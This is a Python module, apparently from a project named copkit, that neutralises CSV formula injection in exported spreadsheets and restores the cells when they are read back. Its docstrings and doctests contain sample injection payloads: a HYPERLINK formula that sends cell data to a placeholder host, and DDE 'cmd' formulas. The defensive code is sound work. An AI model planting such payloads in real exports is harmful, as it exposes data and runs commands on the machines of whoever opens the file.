r"""CSV cells a spreadsheet would run as a formula: neutralised when written, restored when read.

Excel, LibreOffice Calc and Google Sheets treat a CSV cell whose first character is ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula ("CSV injection", OWASP). A respondent's
comment or a roster value such as ``=HYPERLINK("http://x/?"&A1,"Click")`` would run on the
evaluator's machine when they open an export. OWASP's rule: such a cell is prefixed with a single
quote, which spreadsheets take as "this is text" and do not show.

Numbers are left as numbers: numeric columns are never touched, and a text cell that is exactly a
number (``-1.5``, ``+3``, ``-2e-3``) stays as it is, since a spreadsheet reads it as that number
and runs nothing. The prefix is reversible: a cell that already starts with quotes followed by a
trigger character gets one more quote, so :func:`restore` gives back exactly what was written
(``analysis.read_bundle`` restores every cell it reads). See docs/exports.md.

Lines end in CRLF (RFC 4180). That is not cosmetic: Python's CSV writer quotes a cell holding a
line break only when the break is part of the line terminator, so with ``\n`` line ends a cell
``ok\r=cmd|...`` was written unquoted and a spreadsheet started a new row at the carriage
return, with a formula in its first cell. With CRLF every cell holding either character is
quoted and stays one cell.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_TRIGGERS",
    "csv_text",
    "neutralise",
    "neutralise_frame",
    "neutralise_row",
    "restore",
    "restore_frame",
    "write_csv",
    "write_csv_rows",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""

LINE_END = "\r\n"
"""Every CSV copkit writes ends its lines so (see the module's notes)."""
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_TEXT_KINDS = ("object", "string", "category")


def _needs_quote(text: str) -> bool:
    """Whether ``text`` (after any leading quotes) starts with a trigger and is not a number."""
    body = text.lstrip(QUOTE)
    return body.startswith(FORMULA_TRIGGERS) and _NUMBER.fullmatch(body) is None


def neutralise(value: Any) -> Any:
    """``value`` as it is safe to write in a CSV cell.

    Text starting with a formula trigger (possibly after single quotes) gets one more leading
    single quote; anything else, numbers included, is returned unchanged.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://x/?"&A1,"Click")')
    '\\'=HYPERLINK("http://x/?"&A1,"Click")'
    >>> neutralise("+cmd|' /C calc'!A0"), neutralise("@SUM(A1)"), neutralise("\\t=1")
    ("'+cmd|' /C calc'!A0", "'@SUM(A1)", "'\\t=1")
    >>> neutralise("-1.5"), neutralise(-1.5), neutralise("nurse"), neutralise("'=x")
    ('-1.5', -1.5, 'nurse', "''=x")
    """
    if isinstance(value, str) and value and _needs_quote(value):
        return QUOTE + value
    return value


def restore(value: Any) -> Any:
    """Undo :func:`neutralise`: ``restore(neutralise(x)) == x`` for every ``x``.

    Examples
    --------
    >>> restore("'=1+1"), restore("''=x"), restore("'quoted'"), restore("-2")
    ('=1+1', "'=x", "'quoted'", '-2')
    """
    if isinstance(value, str) and value.startswith(QUOTE) and _needs_quote(value[1:]):
        return value[1:]
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """A row for :func:`csv.writer`, every cell neutralised.

    Examples
    --------
    >>> neutralise_row(["Ann", "=1+1", 3, "-4"])
    ['Ann', "'=1+1", 3, '-4']
    """
    return [neutralise(value) for value in values]


def _map_text_columns(frame: pd.DataFrame, function: Any) -> pd.DataFrame:
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype.kind == "O" or str(series.dtype) in _TEXT_KINDS:
            out[column] = series.map(function)
    return out


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are neutralised (numeric columns untouched).

    Examples
    --------
    >>> neutralise_frame(pd.DataFrame({"team": ["=1+1", "Ward 7"], "ei": [-0.5, 0.25]}))
         team    ei
    0  '=1+1 -0.50
    1  Ward 7  0.25
    """
    return _map_text_columns(frame, neutralise)


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell restored (see :func:`restore`)."""
    return _map_text_columns(frame, restore)


def csv_text(frame: pd.DataFrame) -> str:
    r"""``frame`` as CSV text without the index, text cells neutralised, CRLF line ends.

    Examples
    --------
    >>> csv_text(pd.DataFrame({"team": ["=1+1", "a\rb"], "value": [-2.0, 1.0]}))
    'team,value\r\n\'=1+1,-2.0\r\n"a\rb",1.0\r\n'
    """
    return neutralise_frame(frame).to_csv(index=False, lineterminator=LINE_END)


def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write ``frame`` to ``path`` as :func:`csv_text` does, in UTF-8."""
    target = Path(path)
    target.write_bytes(csv_text(frame).encode("utf-8"))
    return target


def write_csv_rows(path: str | Path, header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Path:
    r"""Write a header and rows with :mod:`csv` (UTF-8, CRLF), every cell neutralised.

    Examples
    --------
    >>> import tempfile
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     path = write_csv_rows(f"{folder}/links.csv", ["name", "n"], [["=Ann", -1]])
    ...     path.read_bytes()
    b"name,n\r\n'=Ann,-1\r\n"
    """
    target = Path(path)
    with target.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator=LINE_END)
        writer.writerow(neutralise_row(header))
        writer.writerows(neutralise_row(row) for row in rows)
    return target
